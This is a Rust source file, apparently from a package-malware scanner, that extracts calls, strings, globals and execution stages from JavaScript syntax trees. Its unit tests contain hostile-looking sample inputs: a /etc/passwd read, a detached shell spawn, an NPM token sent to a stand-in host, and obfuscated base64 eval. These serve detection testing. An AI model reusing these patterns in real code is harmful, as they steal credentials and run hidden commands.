//! JavaScript facts from a tree-sitter parse: calls and `new` with
//! callees resolved through `require`/`import` bindings
//! (`const { spawn } = require('child_process')`), string and template
//! literals, referenced globals (`process.env`) and the modules required,
//! each in the scope that decides its stage. Functions declared and not
//! called at module scope run at runtime; immediately invoked functions
//! and callbacks handed to module-scope calls run at load.

use std::cell::RefCell;
use std::collections::HashMap;

use tree_sitter::{Node, Parser};

use super::python::floor_boundary;
use super::walk::{Collector, Scope};
use super::{Call, Facts};
use crate::model::Stage;

const MAX_KEYWORD_TEXT: usize = 200;
const MAX_CHAIN: usize = 64;

/// Globals whose member chains are recorded as names.
const GLOBALS: &[&str] = &[
    "process",
    "global",
    "globalThis",
    "window",
    "Bun",
    "Deno",
    "self",
];

thread_local! {
    static PARSER: RefCell<Option<Parser>> = const { RefCell::new(None) };
}

/// The facts of JavaScript `source`; see [`super::python::analyze`] for
/// `load` and `whole_file`.
pub fn analyze(source: &str, load: Stage, whole_file: bool) -> Facts {
    let tree = PARSER.with(|cell| {
        let mut slot = cell.borrow_mut();
        let parser = slot.get_or_insert_with(|| {
            let mut parser = Parser::new();
            parser
                .set_language(&tree_sitter_javascript::LANGUAGE.into())
                .expect("the bundled JavaScript grammar matches the tree-sitter version");
            parser
        });
        parser.parse(source, None)
    });
    let Some(tree) = tree else {
        return Facts {
            had_errors: true,
            ..Facts::default()
        };
    };
    let root = tree.root_node();
    let mut walker = Walker {
        src: source.as_bytes(),
        aliases: HashMap::new(),
        out: Collector::default(),
    };
    walker.walk(root);
    walker.out.finish(load, whole_file, root.has_error())
}

struct Walker<'s> {
    src: &'s [u8],
    aliases: HashMap<String, String>,
    out: Collector,
}

type Frame<'t> = (Node<'t>, Scope);

fn push_children<'t>(node: Node<'t>, scope: Scope, stack: &mut Vec<Frame<'t>>) {
    let mut cursor = node.walk();
    let children: Vec<_> = node.named_children(&mut cursor).collect();
    for child in children.into_iter().rev() {
        stack.push((child, scope));
    }
}

fn is_function(kind: &str) -> bool {
    matches!(
        kind,
        "function_expression"
            | "function"
            | "arrow_function"
            | "generator_function"
            | "function_declaration"
            | "generator_function_declaration"
    )
}

impl<'s> Walker<'s> {
    fn text(&self, node: Node<'_>) -> &'s str {
        node.utf8_text(self.src).unwrap_or("")
    }

    fn line(node: Node<'_>) -> u32 {
        node.start_position().row as u32 + 1
    }

    /// Pushes a function's body under `owner` (a deferred function), or
    /// under the current scope when `owner` is `None` (run in place).
    fn push_function<'t>(
        &mut self,
        node: Node<'t>,
        owner: Option<&str>,
        scope: Scope,
        stack: &mut Vec<Frame<'t>>,
    ) {
        let inner = match (owner, scope.owner) {
            (_, Some(_)) | (None, None) => scope,
            (Some(key), None) => Scope {
                owner: Some(self.out.owner(key)),
                ..scope
            },
        };
        if let Some(body) = node.child_by_field_name("body") {
            stack.push((body, inner));
        }
    }

    fn walk(&mut self, root: Node<'_>) {
        let mut stack = vec![(root, Scope::default())];
        while let Some((node, scope)) = stack.pop() {
            match node.kind() {
                "function_declaration" | "generator_function_declaration" => {
                    let name = node
                        .child_by_field_name("name")
                        .map(|n| self.text(n))
                        .unwrap_or("");
                    self.push_function(node, Some(name), scope, &mut stack);
                }
                "class_declaration" | "class" => {
                    let name = node
                        .child_by_field_name("name")
                        .map(|n| self.text(n).to_owned())
                        .unwrap_or_default();
                    if let Some(body) = node.child_by_field_name("body") {
                        let mut cursor = body.walk();
                        let members: Vec<_> = body.named_children(&mut cursor).collect();
                        for member in members.into_iter().rev() {
                            if member.kind() == "method_definition" {
                                let method = member
                                    .child_by_field_name("name")
                                    .map(|n| self.text(n))
                                    .unwrap_or("");
                                let key = if method == "constructor" {
                                    name.clone()
                                } else {
                                    format!("{name}.{method}")
                                };
                                self.push_function(member, Some(&key), scope, &mut stack);
                            } else {
                                stack.push((member, scope));
                            }
                        }
                    }
                }
                "method_definition" => {
                    let key = format!(
                        "<method>.{}",
                        node.child_by_field_name("name")
                            .map(|n| self.text(n))
                            .unwrap_or("")
                    );
                    self.push_function(node, Some(&key), scope, &mut stack);
                }
                "variable_declarator" => {
                    let name = node.child_by_field_name("name");
                    let value = node.child_by_field_name("value");
                    if let (Some(name), Some(value)) = (name, value) {
                        self.bind(name, value);
                        if is_function(value.kind()) && name.kind() == "identifier" {
                            let key = self.text(name).to_owned();
                            self.push_function(value, Some(&key), scope, &mut stack);
                            continue;
                        }
                        stack.push((value, scope));
                    }
                }
                "assignment_expression" => {
                    let left = node.child_by_field_name("left");
                    let right = node.child_by_field_name("right");
                    if let (Some(left), Some(right)) = (left, right) {
                        if left.kind() == "identifier" {
                            self.bind(left, right);
                        }
                        if is_function(right.kind()) {
                            let key = self.text(left).to_owned();
                            self.push_function(right, Some(&key), scope, &mut stack);
                        } else {
                            stack.push((right, scope));
                        }
                        if left.kind() != "identifier" {
                            stack.push((left, scope));
                        }
                    }
                }
                "pair" => {
                    let key = node
                        .child_by_field_name("key")
                        .map(|k| self.text(k).to_owned())
                        .unwrap_or_default();
                    if let Some(value) = node.child_by_field_name("value") {
                        if is_function(value.kind()) {
                            self.push_function(
                                value,
                                Some(&format!("<prop>.{key}")),
                                scope,
                                &mut stack,
                            );
                        } else {
                            stack.push((value, scope));
                        }
                    }
                }
                "import_statement" => self.import(node, scope),
                "call_expression" | "new_expression" => {
                    self.call(node, scope);
                    push_children(node, scope, &mut stack);
                }
                "string" | "template_string" => {
                    let value = self.string_value(node);
                    self.out.string(value, Self::line(node), scope);
                    if node.kind() == "template_string" {
                        push_children(node, scope, &mut stack);
                    }
                }
                "string_fragment" | "escape_sequence" => {}
                "member_expression" | "subscript_expression" => {
                    if let Some(name) = self.resolve(node)
                        && self.is_interesting_name(&name)
                    {
                        self.out.name(name, Self::line(node), scope);
                    }
                    let head = chain_head(node);
                    if let Some(head) = head {
                        if head.kind() == "identifier" {
                            let ident = self.text(head);
                            self.out.reference(ident, scope);
                        } else {
                            stack.push((head, scope));
                        }
                    }
                    push_chain_extras(node, scope, &mut stack);
                }
                "identifier" => {
                    let ident = self.text(node);
                    self.out.reference(ident, scope);
                }
                _ => push_children(node, scope, &mut stack),
            }
        }
    }

    fn is_interesting_name(&self, name: &str) -> bool {
        let head = name.split('.').next().unwrap_or_default();
        name.contains('.')
            && (GLOBALS.contains(&head)
                || self
                    .aliases
                    .values()
                    .any(|v| v.split('.').next() == Some(head)))
    }

    /// Remembers `name = require('x')`, `{ a, b: c } = require('x')` and
    /// `name = require('x').y` bindings.
    fn bind(&mut self, name: Node<'_>, value: Node<'_>) {
        let Some(target) = self.resolve(value) else {
            return;
        };
        if value.kind() == "identifier"
            && !target.contains('.')
            && !matches!(target.as_str(), "eval" | "Function" | "require")
        {
            return;
        }
        match name.kind() {
            "identifier" => {
                let local = self.text(name).to_owned();
                if local != target {
                    self.aliases.insert(local, target);
                }
            }
            "object_pattern" => {
                let mut cursor = name.walk();
                for prop in name.named_children(&mut cursor) {
                    match prop.kind() {
                        "shorthand_property_identifier_pattern" => {
                            let key = self.text(prop).to_owned();
                            self.aliases.insert(key.clone(), format!("{target}.{key}"));
                        }
                        "pair_pattern" => {
                            let key = prop
                                .child_by_field_name("key")
                                .map(|k| self.text(k))
                                .unwrap_or("");
                            if let Some(local) = prop
                                .child_by_field_name("value")
                                .filter(|v| v.kind() == "identifier")
                            {
                                self.aliases
                                    .insert(self.text(local).to_owned(), format!("{target}.{key}"));
                            }
                        }
                        _ => {}
                    }
                }
            }
            _ => {}
        }
    }

    fn import(&mut self, node: Node<'_>, scope: Scope) {
        let Some(source) = node.child_by_field_name("source") else {
            return;
        };
        let module = module_name(&self.string_value(source));
        self.out.import(module.clone(), Self::line(node), scope);
        let mut cursor = node.walk();
        let clause = node
            .named_children(&mut cursor)
            .find(|c| c.kind() == "import_clause");
        let Some(clause) = clause else {
            return;
        };
        let mut cursor = clause.walk();
        for part in clause.named_children(&mut cursor) {
            match part.kind() {
                "identifier" => {
                    self.aliases
                        .insert(self.text(part).to_owned(), module.clone());
                }
                "namespace_import" => {
                    if let Some(ident) = part.named_child(0) {
                        self.aliases
                            .insert(self.text(ident).to_owned(), module.clone());
                    }
                }
                "named_imports" => {
                    let mut c = part.walk();
                    for spec in part.named_children(&mut c) {
                        let name = spec
                            .child_by_field_name("name")
                            .map(|n| self.text(n))
                            .unwrap_or("");
                        let local = spec
                            .child_by_field_name("alias")
                            .map(|n| self.text(n))
                            .unwrap_or(name);
                        if !local.is_empty() {
                            self.aliases
                                .insert(local.to_owned(), format!("{module}.{name}"));
                        }
                    }
                }
                _ => {}
            }
        }
    }

    fn call(&mut self, node: Node<'_>, scope: Scope) {
        let function = node
            .child_by_field_name("function")
            .or_else(|| node.child_by_field_name("constructor"));
        let callee = function
            .and_then(|f| self.resolve_callee(f))
            .unwrap_or_else(|| "<dynamic>".to_owned());
        let line = Self::line(node);
        if matches!(callee.as_str(), "require" | "import")
            && let Some(module) = node
                .child_by_field_name("arguments")
                .and_then(|a| a.named_child(0))
                .filter(|a| a.kind() == "string")
        {
            let module = module_name(&self.string_value(module));
            self.out.import(module, line, scope);
        }
        let mut call = Call {
            callee,
            line,
            ..Call::default()
        };
        if let Some(args) = node.child_by_field_name("arguments") {
            self.arguments(args, &mut call);
        }
        self.out.call(call, scope);
    }

    fn resolve_callee(&self, node: Node<'_>) -> Option<String> {
        if node.kind() == "import" {
            return Some("import".to_owned());
        }
        self.resolve(node)
    }

    fn arguments(&self, args: Node<'_>, call: &mut Call) {
        let mut stack = vec![(args, 0u8)];
        while let Some((node, depth)) = stack.pop() {
            match node.kind() {
                "string" | "template_string" => {
                    call.strings.push(self.string_value(node));
                    if node.kind() == "string" {
                        continue;
                    }
                }
                "call_expression" | "new_expression" => {
                    if let Some(name) = node
                        .child_by_field_name("function")
                        .or_else(|| node.child_by_field_name("constructor"))
                        .and_then(|f| self.resolve_callee(f))
                    {
                        call.inner_calls.push(name);
                    }
                }
                "member_expression" | "subscript_expression" => {
                    if let Some(name) = self.resolve(node) {
                        call.names.push(name);
                    }
                }
                "identifier" => match self.aliases.get(self.text(node)) {
                    Some(target) => call.names.push(target.clone()),
                    None => call.names.push(self.text(node).to_owned()),
                },
                "pair" if depth == 1 => {
                    if let (Some(key), Some(value)) = (
                        node.child_by_field_name("key"),
                        node.child_by_field_name("value"),
                    ) {
                        let text = self.text(value);
                        let text = &text[..floor_boundary(text, MAX_KEYWORD_TEXT)];
                        let key = self.text(key).trim_matches(['"', '\'']).to_owned();
                        call.keywords.push((key, text.to_owned()));
                    }
                }
                "shorthand_property_identifier" if depth == 1 => {
                    let key = self.text(node).to_owned();
                    call.keywords.push((key.clone(), key));
                }
                _ => {}
            }
            let next = match node.kind() {
                "arguments" => 0,
                "object" if depth == 0 => 1,
                _ => 2,
            };
            let mut cursor = node.walk();
            let children: Vec<_> = node.named_children(&mut cursor).collect();
            for child in children.into_iter().rev() {
                stack.push((child, next));
            }
        }
    }

    /// The dotted name an expression stands for, bindings resolved.
    fn resolve(&self, node: Node<'_>) -> Option<String> {
        let mut parts = Vec::new();
        let mut current = node;
        for _ in 0..MAX_CHAIN {
            match current.kind() {
                "identifier" => {
                    let ident = self.text(current);
                    parts.push(
                        self.aliases
                            .get(ident)
                            .map_or(ident, String::as_str)
                            .to_owned(),
                    );
                    break;
                }
                "this" | "super" => {
                    parts.push(current.kind().to_owned());
                    break;
                }
                "member_expression" => {
                    parts.push(
                        self.text(current.child_by_field_name("property")?)
                            .to_owned(),
                    );
                    current = current.child_by_field_name("object")?;
                }
                "subscript_expression" => {
                    let index = current.child_by_field_name("index")?;
                    if !matches!(index.kind(), "string" | "template_string") {
                        return None;
                    }
                    parts.push(self.string_value(index));
                    current = current.child_by_field_name("object")?;
                }
                "call_expression" => {
                    let function = current.child_by_field_name("function")?;
                    let name = self.resolve_callee(function)?;
                    if matches!(name.as_str(), "require" | "import") {
                        let module = current
                            .child_by_field_name("arguments")
                            .and_then(|a| a.named_child(0))
                            .filter(|a| a.kind() == "string")
                            .map(|a| module_name(&self.string_value(a)))?;
                        parts.push(module);
                    } else {
                        parts.push(name);
                    }
                    break;
                }
                "parenthesized_expression" => current = current.named_child(0)?,
                "await_expression" => current = current.named_child(0)?,
                _ => return None,
            }
        }
        parts.reverse();
        Some(parts.join("."))
    }

    fn string_value(&self, node: Node<'_>) -> String {
        let mut out = String::new();
        let mut cursor = node.walk();
        for part in node.named_children(&mut cursor) {
            match part.kind() {
                "string_fragment" => out.push_str(self.text(part)),
                "escape_sequence" => unescape_into(self.text(part), &mut out),
                "template_substitution" => out.push_str("{}"),
                _ => {}
            }
        }
        out
    }
}

/// `node:child_process` → `child_process`.
fn module_name(spec: &str) -> String {
    spec.strip_prefix("node:").unwrap_or(spec).to_owned()
}

/// The innermost object of a member/subscript chain.
fn chain_head(node: Node<'_>) -> Option<Node<'_>> {
    let mut current = node;
    for _ in 0..MAX_CHAIN {
        match current.kind() {
            "member_expression" | "subscript_expression" => {
                current = current.child_by_field_name("object")?
            }
            _ => return Some(current),
        }
    }
    None
}

/// Pushes the non-literal subscripts of a chain (`a[f()]`), which may hold calls.
fn push_chain_extras<'t>(node: Node<'t>, scope: Scope, stack: &mut Vec<Frame<'t>>) {
    let mut current = node;
    for _ in 0..MAX_CHAIN {
        match current.kind() {
            "member_expression" => match current.child_by_field_name("object") {
                Some(o) => current = o,
                None => return,
            },
            "subscript_expression" => {
                if let Some(index) = current.child_by_field_name("index") {
                    stack.push((index, scope));
                }
                match current.child_by_field_name("object") {
                    Some(o) => current = o,
                    None => return,
                }
            }
            _ => return,
        }
    }
}

/// Decodes one JavaScript escape sequence (`\x41`, `\u0041`, `\u{41}`).
fn unescape_into(escape: &str, out: &mut String) {
    let body = &escape[1.min(escape.len())..];
    let hex = |digits: &str| {
        u32::from_str_radix(digits, 16)
            .ok()
            .and_then(char::from_u32)
    };
    let decoded = match body.chars().next() {
        Some('n') => Some('\n'),
        Some('t') => Some('\t'),
        Some('r') => Some('\r'),
        Some('0') if body.len() == 1 => Some('\0'),
        Some('x') => hex(&body[1..]),
        Some('u') if body.starts_with("u{") => hex(body[2..].trim_end_matches('}')),
        Some('u') => hex(&body[1..]),
        Some('\n') | Some('\r') => return,
        Some(c) if body.len() == c.len_utf8() => Some(c),
        _ => None,
    };
    match decoded {
        Some(c) => out.push(c),
        None => out.push_str(escape),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn facts(src: &str) -> Facts {
        analyze(src, Stage::Import, false)
    }

    fn callees(f: &Facts) -> Vec<&str> {
        f.calls.iter().map(|c| c.callee.as_str()).collect()
    }

    #[test]
    fn resolves_require_and_import_bindings() {
        let f = facts(
            "const cp = require('child_process');\nconst { spawn, exec: run } = require('node:child_process');\n\
             const https = require('https').request;\nimport os from 'os';\nimport { execSync as es } from 'child_process';\n\
             cp.execSync('id');\nspawn('sh', [], { detached: true, stdio: 'ignore' });\nrun('x');\nhttps('u');\nos.homedir();\nes('y');\n\
             require('fs').readFileSync('/etc/passwd');\n",
        );
        let c = callees(&f);
        for want in [
            "child_process.execSync",
            "child_process.spawn",
            "child_process.exec",
            "https.request",
            "os.homedir",
            "fs.readFileSync",
        ] {
            assert!(c.contains(&want), "{want} not in {c:?}");
        }
        let spawn = f
            .calls
            .iter()
            .find(|c| c.callee == "child_process.spawn")
            .unwrap();
        assert!(
            spawn.keywords.contains(&("detached".into(), "true".into())),
            "{:?}",
            spawn.keywords
        );
        let imports: Vec<_> = f.imports.iter().map(|i| i.name.as_str()).collect();
        assert!(
            imports.contains(&"child_process")
                && imports.contains(&"os")
                && imports.contains(&"fs")
        );
    }

    #[test]
    fn stages() {
        let f = facts(
            "const cp = require('child_process');\nfunction later() { cp.exec('a'); }\n\
             function now() { cp.spawn('b'); }\nnow();\n(function () { cp.fork('c'); })();\n\
             module.exports.run = function () { cp.execFile('d'); };\nsetTimeout(() => cp.execSync('e'), 10);\n\
             class K { constructor() { cp.spawnSync('f'); } go() { cp.execFileSync('g'); } }\n",
        );
        let stage = |name: &str| f.calls.iter().find(|c| c.callee == name).map(|c| c.stage);
        assert_eq!(stage("child_process.exec"), Some(Stage::Runtime));
        assert_eq!(stage("child_process.spawn"), Some(Stage::Import));
        assert_eq!(stage("child_process.fork"), Some(Stage::Import));
        assert_eq!(stage("child_process.execFile"), Some(Stage::Runtime));
        assert_eq!(stage("child_process.execSync"), Some(Stage::Import));
        assert_eq!(stage("child_process.spawnSync"), Some(Stage::Runtime));
        assert_eq!(stage("child_process.execFileSync"), Some(Stage::Runtime));
    }

    #[test]
    fn strings_globals_and_eval() {
        let f = facts(
            "const t = process.env.NPM_TOKEN;\nfetch(`https://x.test/${t}`);\n\
             eval(Buffer.from('aWQ=', 'base64').toString());\nglobal['ev' + 'al'];\nnew Function('return 1')();\n\
             const s = '\\x65\\u0078\\u{65}c';\n",
        );
        assert!(f.names.iter().any(|n| n.name == "process.env.NPM_TOKEN"));
        assert!(f.strings.iter().any(|s| s.value == "https://x.test/{}"));
        assert!(f.strings.iter().any(|s| s.value == "exec"));
        let eval = f.calls.iter().find(|c| c.callee == "eval").unwrap();
        assert!(
            eval.inner_calls.iter().any(|c| c == "Buffer.from.toString"),
            "{:?}",
            eval.inner_calls
        );
        assert!(callees(&f).contains(&"Function"));
    }

    #[test]
    fn deep_nesting_does_not_overflow() {
        let src = format!("x = {}1{};", "[".repeat(50_000), "]".repeat(50_000));
        let _ = facts(&src);
        let src = format!("x = {};", "a.".repeat(100_000) + "b");
        let _ = facts(&src);
    }
}
